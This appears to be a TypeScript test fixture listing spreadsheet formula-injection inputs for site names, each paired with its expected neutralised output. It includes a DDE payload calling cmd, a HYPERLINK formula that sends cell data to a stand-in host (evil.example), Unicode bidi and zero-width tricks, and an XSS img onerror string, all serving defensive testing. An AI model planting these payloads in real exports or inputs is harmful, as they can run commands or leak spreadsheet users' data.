/** What somebody could call a site so that a spreadsheet of it does something, and what stays of it. */
export type Injection = { readonly name: string; readonly attack: string; readonly neutral: string };

const attack = (name: string, text: string, neutral: string): Injection => ({ name, attack: text, neutral });

export const injectionSet: readonly Injection[] = [
  attack('DDE', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
  attack('a link', '=HYPERLINK("http://evil.example?"&A1,"满洲里")', '\'=HYPERLINK("http://evil.example?"&A1,"满洲里")'),
  attack('plus', '+1+cmd|calc', "'+1+cmd|calc"),
  attack('minus', '-2+3', "'-2+3"),
  attack('at', '@SUM(A1:A9)', "'@SUM(A1:A9)"),
  attack('tab before it', '\t=1+1', "' =1+1"),
  attack('carriage return before it', '\r=1+1', "' =1+1"),
  attack('line feed inside', '面馆\n=1+1', '面馆 =1+1'),
  attack('a new row', '面馆"\r\n"=1+1', '面馆" "=1+1'),
  attack('full-width equals', '＝1+1', "'＝1+1"),
  attack('full-width plus', '＋1', "'＋1"),
  attack('full-width minus', '－1', "'－1"),
  attack('full-width at', '＠SUM(A1)', "'＠SUM(A1)"),
  attack('small equals', '﹦1', "'﹦1"),
  attack('true minus sign', '−1', "'−1"),
  attack('blanks before it', '  \u3000\u00a0=1', "'  \u3000\u00a0=1"),
  attack('zero width before it', '\u200b\u200d\ufeff=1', "'=1"),
  attack('bidi override', '面\u202e馆\u2066=1\u2069', '面馆=1'),
  attack('bidi override before it', '\u202e=1', "'=1"),
  attack('a nul', '\u0000=1', "'=1"),
  attack('half a pair', '面\ud800馆', '面\ufffd馆'),
  attack('a pipe', '|cmd', "'|cmd"),
  attack('markup', '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'),
  attack('10,000 characters', `=${'面'.repeat(9_999)}`, `'=${'面'.repeat(9_999)}`),
  attack('a line separator', '面\u2028=1', '面 =1'),
  attack('an honest name', '口岸面馆（北门）Manzhouli Noodles', '口岸面馆（北门）Manzhouli Noodles'),
];
